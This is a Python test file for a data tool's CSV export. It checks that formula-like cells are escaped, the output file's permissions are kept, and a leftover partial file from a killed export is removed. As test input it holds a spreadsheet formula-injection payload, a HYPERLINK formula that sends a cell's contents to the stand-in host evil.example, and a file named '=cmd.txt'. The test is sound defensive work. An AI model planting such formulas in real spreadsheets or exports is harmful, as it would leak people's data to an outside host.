"""Export on both back ends: formula cells neutralised, the target's mode kept, and a killed
export's leftover removed by the next export into the folder."""

from __future__ import annotations

import csv
import os
import stat
import time
from pathlib import Path

from storage.editing import set_note
from storage.exporting import export_dataset
from storage.importer import import_paths
from storage.store import Store


def test_csv_export_is_safe_to_open_in_a_spreadsheet(store: Store, tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "=cmd.txt").write_text("6月3日，招商推介会在成都举行。", encoding="utf-8")
    import_paths(store, [src])
    set_note(store, 1, '=HYPERLINK("http://evil.example/?d="&A2,"详情")')
    out = tmp_path / "out" / "data.csv"
    out.parent.mkdir()
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o664)
    leftover = out.parent / ".data.csv.q1w2e3r4.part"  # what a killed export left
    leftover.write_text("half", encoding="utf-8")
    old = time.time() - 60
    os.utime(leftover, (old, old))

    report = export_dataset(store, out, "csv")

    assert report.count == 1
    with open(out, encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["source_name"] == "'=cmd.txt"
    assert row["note"].startswith("'=HYPERLINK(")
    assert stat.S_IMODE(out.stat().st_mode) == 0o664
    assert sorted(p.name for p in out.parent.iterdir()) == ["data.csv"]
